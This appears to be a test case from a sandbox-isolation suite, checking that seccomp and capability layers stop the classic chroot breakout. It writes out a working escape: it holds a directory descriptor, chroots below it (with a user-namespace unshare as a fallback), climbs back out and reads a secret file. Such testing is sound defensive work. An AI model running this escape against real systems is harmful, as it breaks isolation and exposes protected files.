# id: CON-17-a
# title: leaves its root by changing it
# walls: full nested
# first: seccomp
# second: capabilities
# expect: ok
# denies: chroot
# control: bare
"""The old way out: keep a directory open, change the root to one below, go back to the first and
climb."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
nr = context["nr"]
os.mkdir("below")
outside = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
changed = False
for prepare in (lambda: 0, lambda: libc.syscall(nr["unshare"],
                                                0x10000000)):  # a user namespace, if need be
    prepare()
    if libc.syscall(nr["chroot"], b"below") == 0:
        changed = True
        os.fchdir(outside)
        for _ in range(64):
            os.chdir("..")
        libc.syscall(nr["chroot"], b".")
        os.chdir("/")
        result = open(context["secret_file"]).read()
        os.fchdir(outside)
        break
os.rmdir("below")
